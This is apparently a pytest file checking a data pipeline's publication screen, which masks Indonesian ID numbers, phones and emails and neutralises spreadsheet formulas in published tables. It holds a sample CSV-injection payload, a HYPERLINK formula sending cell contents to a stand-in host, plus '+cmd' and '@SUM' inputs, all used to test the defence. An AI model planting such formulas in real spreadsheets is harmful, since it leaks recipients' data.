"""Issue 12: the publication screen, and the one formula rule in every table the pipeline writes."""

import csv
import datetime as dt
import io

import duckdb
import pandas as pd
import pytest

from pipeline.outputs import renewal_list
from pipeline.publication import screen
from pipeline.report.render import table_csv

FORMULA = '=HYPERLINK("http://x.example/?n="&C2,"Nama")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Buruh harian (Siti Aminah, NIK 6107051212000001)",
            "Buruh harian (Siti Aminah, NIK [nomor disamarkan])",
        ),
        (
            "Dibayar anak: Rudi Hartono HP 0812-3456-7890",
            "Dibayar anak: Rudi Hartono HP [telepon disamarkan]",
        ),
        ("hubungi +62 812 3456 7890", "hubungi [telepon disamarkan]"),
        ("hubungi 081234567890.", "hubungi [telepon disamarkan]."),
        ("6107 0512 1200 0001", "[nomor disamarkan]"),
        ("KPJ 24012345678", "KPJ [nomor disamarkan]"),
        ("surel siti.aminah@example.co.id ya", "surel [surel disamarkan] ya"),
        ("Klaim JKM an. Slamet NIK 6107142606740024.csv", "Klaim JKM an. Slamet NIK [nomor disamarkan].csv"),
        # a NIK stored as a number and shown in thousands style, and other separators
        ("NIK 6.107.014.512.900.003, lihat", "NIK [nomor disamarkan], lihat"),
        ("6107/0145/1290/0003", "[nomor disamarkan]"),
        ("6107_0145_1290_0003", "[nomor disamarkan]"),
        ("6107,0145,1290,0003", "[nomor disamarkan]"),
        ("6107  0145\u2009 1290 0003", "[nomor disamarkan]"),
        ("HP 0812  3456  7890", "HP [telepon disamarkan]"),
        ("kantor (0561) 692123", "kantor [telepon disamarkan]"),
        ("kantor 021-5551234", "kantor [telepon disamarkan]"),
    ],
)
def test_personal_numbers_phones_and_emails_are_masked(text, expected):
    assert screen.redact(text) == expected
    assert screen.redact(expected) == expected  # idempotent


@pytest.mark.parametrize(
    "text",
    [
        "Petani",
        "61.07.14.2001",
        "Rp 1.234.567.890",
        "2025-09-01",
        "RT 001/RW 002",
        "123456789",
        "Rp2.455.286.400",
        "Rp1.842.237.600,50",
        "18/09/2025",
        "12,5 %",
        "15.449 peserta",
        "3e46de64fa5451c6f210aa95185e052aa93992e4e641edb1229ecf8ca51cb723",
        "MONEV-61.07-202509-3FA939A000",
    ],
)
def test_codes_amounts_dates_and_digests_are_left_alone(text):
    assert screen.redact(text) == text


def test_only_text_is_touched():
    assert screen.redact(6107051212000001) == 6107051212000001
    assert screen.redact(None) is None
    assert screen.neutralise(-5) == -5
    assert screen.neutralise("-5") == "'-5"
    assert screen.publish_cell(FORMULA) == "'" + FORMULA
    assert screen.publish_cell("@a 0812-3456-7890") == "'@a [telepon disamarkan]"


def test_rare_values_are_folded_into_a_count():
    items = [
        {"value": "Donatur", "rows": 15},
        {"value": "Penyadap", "rows": 4},
        {"value": "Siti Aminah 0812", "rows": 1},
        {"value": "Petani", "rows": 5},
    ]
    kept, folded = screen.fold_rare(items)
    assert [k["value"] for k in kept] == ["Donatur", "Petani"]
    assert folded == {"values": 2, "rows": 5}
    assert screen.fold_rare(items[:1]) == (items[:1], None)


def test_files_are_labelled_never_named():
    files = [
        {"path": "enrolment/Klaim JKM an. Slamet NIK 6107142606740024.csv", "kind": "enrolment", "sheets": 1},
        {"path": "enrolment/a.xlsx", "kind": "enrolment", "sheets": 2},
        {"path": "enrolment/.rahasia.csv", "kind": "enrolment", "sheets": None},
        {"path": "reference/Wilayah.CSV", "kind": "reference", "sheets": 1},
        {"path": "(default) sumber_dana.csv", "kind": "reference", "sheets": 1},
        {"path": "claims/Siti 0812.weird ext", "kind": "claims", "sheets": None},
    ]
    labels = [f["label"] for f in screen.label_files(files, ("wilayah", "sumber_dana"))]
    # numbered by kind in path order (as audit.input_files sorts: "." < "K" < "a")
    assert labels == [
        "kepesertaan #2 · csv",
        "kepesertaan #3 · xlsx · 2 lembar",
        "kepesertaan #1 · csv",
        "referensi wilayah · csv",
        "bawaan sumber_dana · csv",
        "klaim #1 · lain",
    ]


def test_a_file_status_never_carries_the_error_text():
    assert screen.file_status(None) == "read"
    assert screen.file_status("not read: a symbolic link leading outside the data root") == "not_read.link"
    assert screen.file_status("not read: hidden file (its name starts with '.')") == "not_read.hidden"
    denied = "[Errno 13] Permission denied: '/home/siti/NIK 6107.xlsx'"
    assert screen.file_status(denied) == "unreadable.other"


def test_pdf_attachments_are_screened_and_hold_no_live_formula():
    frame = pd.DataFrame(
        {
            "village_name": [FORMULA, "+cmd", "Sungai Raya"],
            "active": [1, -2, 3],
            "note": ["NIK 6107051212000001", None, "@SUM(A1)"],
        }
    )
    rows = list(csv.reader(io.StringIO(table_csv(frame).decode("utf-8"))))
    assert rows[1:] == [
        ["'" + FORMULA, "1", "NIK [nomor disamarkan]"],
        ["'+cmd", "-2", ""],
        ["Sungai Raya", "3", "'@SUM(A1)"],
    ]


def test_the_renewal_list_keeps_names_and_nik_but_no_live_formula(tmp_path, monkeypatch):
    row = (
        "61.07",
        "61.07.14",
        "Sungai Raya",
        "61.07.14.2001",
        "-Desa",
        FORMULA,
        "6107051212000001",
        "24012345678",
        "BPU",
        "APBD_KAB",
        "2025-11-30",
    )
    monkeypatch.setattr(renewal_list, "fetch", lambda *_: (list(renewal_list.HEADER), [row]))
    with duckdb.connect() as con:
        renewal_list.write_renewal_lists(con, dt.date(2025, 9, 1), tmp_path)
    listed = list(csv.reader((tmp_path / "2025-09" / "61.07-daftar-perpanjangan.csv").open(encoding="utf-8")))
    assert listed[1][4] == "'-Desa" and listed[1][5] == "'" + FORMULA
    assert listed[1][6] == "6107051212000001"  # internal: the NIK stays for the village office
    assert not any(screen.is_live_formula(cell) for line in listed for cell in line)
